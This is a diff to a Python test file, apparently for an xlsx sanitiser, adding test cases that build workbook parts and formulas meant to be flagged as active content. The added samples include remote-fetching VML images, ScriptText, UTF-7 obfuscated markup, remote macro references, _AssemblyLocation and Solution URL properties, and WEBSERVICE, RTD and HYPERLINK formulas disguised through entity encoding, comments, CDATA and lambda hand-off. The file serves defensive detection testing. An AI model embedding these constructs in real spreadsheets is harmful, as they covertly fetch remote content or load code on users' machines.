@@ -206,6 +206,14 @@ def test_what_can_be_left_behind_is(make: Make, werkmap: bytes, lees: Callable[.
     assert lees(copy).tables.keys() == lees(werkmap).tables.keys()
 
 
+def solution(properties: str) -> Make:
+    """Give a workbook own properties, of which one is still open."""
+    return both(
+        added("docProps/eigen.xml", f"<Properties>{properties}</property></Properties>".encode()),
+        relates(OFFICE + b"custom-properties", b"docProps/eigen.xml", at="_rels/.rels"),
+    )
+
+
 ACTING: dict[str, Make] = {
     "external link": both(
         added("xl/externalLinks/externalLink1.xml", b"<externalLink/>"),
@@ -312,6 +320,43 @@ ACTING: dict[str, Make] = {
         added("xl/drawings/vmlDrawing9.vml", b'<xml><v:imagedata o:href="http://kwaad"/></xml>'),
         relates(OFFICE + b"vmlDrawing", b"drawings/vmlDrawing9.vml"),
     ),
+    "old drawing that fetches, close together": both(
+        added("xl/drawings/vmlDrawing9.vml", b'<xml><v:imagedata id="a"src="http://kwaad"/></xml>'),
+        relates(OFFICE + b"vmlDrawing", b"drawings/vmlDrawing9.vml"),
+    ),
+    "old drawing that fetches another": both(
+        added("xl/drawings/vmlDrawing9.vml", b'<xml><v:fill o:althref="http://kwaad"/></xml>'),
+        relates(OFFICE + b"vmlDrawing", b"drawings/vmlDrawing9.vml"),
+    ),
+    "old drawing with a script": both(
+        added("xl/drawings/vmlDrawing9.vml", b"<xml><x:ScriptText>kwaad</x:ScriptText></xml>"),
+        relates(OFFICE + b"vmlDrawing", b"drawings/vmlDrawing9.vml"),
+    ),
+    "old drawing in a coding that hides": both(
+        added(
+            "xl/drawings/vmlDrawing9.vml",
+            b'<?xml version="1.0" encoding="utf-7"?>+ADw-v:imagedata sr+AGM-+AD0-"http://kwaad"/>',
+        ),
+        relates(OFFICE + b"vmlDrawing", b"drawings/vmlDrawing9.vml"),
+    ),
+    "macro behind a value of nobody": both(
+        added(
+            "xl/drawings/drawing9.xml",
+            b"<d xmlns:y='y'><sp macro=\"'http://h/x.xlsm'!kwaad\" y:macro=''/></d>",
+        ),
+        relates(OFFICE + b"drawing", b"drawings/drawing9.xml"),
+    ),
+    "program with it": solution('<property name="_AssemblyLocation"><x>http://x/</x>'),
+    "program with it, further on": solution('<property name="_AssemblyLocation1"><x>http://x/</x>'),
+    "program with it, written otherwise": solution('<property name="&#95;assemblyName"><x>*</x>'),
+    "smart document": solution('<property name="Solution URL"><x>http://x/y</x>'),
+    "form of a server": both(
+        added(
+            "customXml/item9.xml",
+            b"<x:customXsn xmlns:x='x'><x:xsnLocation>http://x/y</x:xsnLocation></x:customXsn>",
+        ),
+        relates(OFFICE + b"customXml", b"../customXml/item9.xml"),
+    ),
     "name that runs": part(
         "xl/workbook.xml",
         lambda c: (
@@ -350,6 +395,9 @@ ACTING: dict[str, Make] = {
     ),
     "fetches": formula("_xlfn.WEBSERVICE(A1)"),
     "fetches, written otherwise": formula("&#87;EBSERVI&#x43;E (A1)"),
+    "fetches, around what is left out": formula("WEBSERVICE<x:f xmlns:x='x'/>(A1)"),
+    "fetches, around a choice": formula("WEBSERVICE<x:y xmlns:x='x'><f>1</f></x:y>(A1)"),
+    "handed to another": formula("_xlfn.MAP(A1:A2,_xleta.WEBSERVICE)"),
     "fetches, in pieces": formula("WEB<!-- -->SERVICE(A1)"),
     "fetches, as data": formula("<![CDATA[WEBSERVICE(A1)]]>"),
     "picture by formula": formula("_xlfn.IMAGE(A1)"),
@@ -426,6 +474,7 @@ def test_a_workbook_that_is_too_large_has_no_copy(
             "\"a|b\"&'Jan''s blad'!A1",
             "{1,2;3,4}",
         ),
+        *("_xlfn.BYROW(A1:B9,_xleta.SUM)", "T[it''s]+T['[x']]+1", "T[[#This Row],['#]]"),
         *("sum( A1 )", "#REF!", "Blad1!A1:INDEX(Blad1!A:A,9)", "tblX[Kolom]+Blad!A1", ""),
     ],
 )
@@ -457,6 +506,15 @@ def test_a_formula_that_computes(text: str) -> None:
             "[boek.xlsx]Blad!A1",
             "Blad.Kwaad(1)",
         ),
+        *(
+            'T[a"b]&WEBSERVICE("http://x")&T[a"b]',
+            'T[[#This Row],[a"b]]&RTD("x",,"y")&T[[#This Row],[a"b]]',
+            "T[it''s]+WEBSERVICE(A1)+T[it''s]",
+            "T['#]+WEBSERVICE(A1)+T['#]",
+            "T[[[a]]]",
+        ),
+        *("MAP(A1:A2,_xleta.WEBSERVICE)", "BYROW(A1,_XLETA.RTD)", "MAP(A1,_xleta.HYPERLINK)"),
+        'HYPERLINK("#[\\\\h\\x.xlsx]Blad!A1","x")',
     ],
 )
 def test_a_formula_that_reaches_out(text: str) -> None:
